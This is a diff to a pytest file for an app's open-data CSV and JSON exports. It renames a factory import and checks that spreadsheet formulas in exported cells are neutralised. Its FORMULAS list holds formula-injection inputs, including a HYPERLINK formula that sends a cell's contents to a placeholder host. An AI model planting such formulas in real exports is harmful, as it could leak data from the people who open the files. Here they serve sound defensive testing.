@@ -8,7 +8,7 @@ import pytest
 
 from app.extensions import db
 from app.showcase.services import OPEN_DATA_FIELDS
-from tests import factories_board as fb
+from tests import factories
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -17,11 +17,11 @@ ATOM = "{http://www.w3.org/2005/Atom}"
 def data(make):
     make.cycle(year=2026)
     agency = make.agency(name="Dinas Kominfo", code="DISKOMINFO")
-    original = fb.published(agency_=agency, title="Aplikasi Asli", contact="0335-111")
+    original = factories.published(agency_=agency, title="Aplikasi Asli", contact="0335-111")
     hidden = make.proposal(status="approved", title="Belum Tayang")
-    copy = fb.published(title="Replika Publik", replicates_id=original.id, status="implemented")
-    secret_copy = fb.published(title="Replika Dari Rahasia", replicates_id=hidden.id)
-    fb.votes(original, 3)
+    copy = factories.published(title="Replika Publik", replicates_id=original.id, status="implemented")
+    secret_copy = factories.published(title="Replika Dari Rahasia", replicates_id=hidden.id)
+    factories.votes(original, 3)
     make.proposal(status="draft", title="Draf Saja")
     db.session.commit()
     return {"original": original, "copy": copy, "secret_copy": secret_copy}
@@ -49,8 +49,8 @@ FORMULAS = ['=HYPERLINK("http://contoh.test/?d="&A1,"klik")', "+1", "-2", "@SUM(
 def test_csv_cells_that_would_run_as_formulas_are_neutralised(client, make):
     make.cycle(year=2026)
     for title in FORMULAS:
-        fb.published(title=title, contact="-")
-    fb.published(title="Judul biasa", contact="0335-111")
+        factories.published(title=title, contact="-")
+    factories.published(title="Judul biasa", contact="0335-111")
     db.session.commit()
     response = client.get("/open-data/innovations.csv")
     assert response.status_code == 200
@@ -77,7 +77,7 @@ def test_json_matches_csv(client, data):
 def test_open_data_answers_conditional_requests_and_changes_with_data(client, make, data, url):
     etag = client.get(url).headers["ETag"]
     assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
-    fb.published(title="Inovasi Baru")
+    factories.published(title="Inovasi Baru")
     db.session.commit()
     assert client.get(url, headers={"If-None-Match": etag}).status_code == 200
 
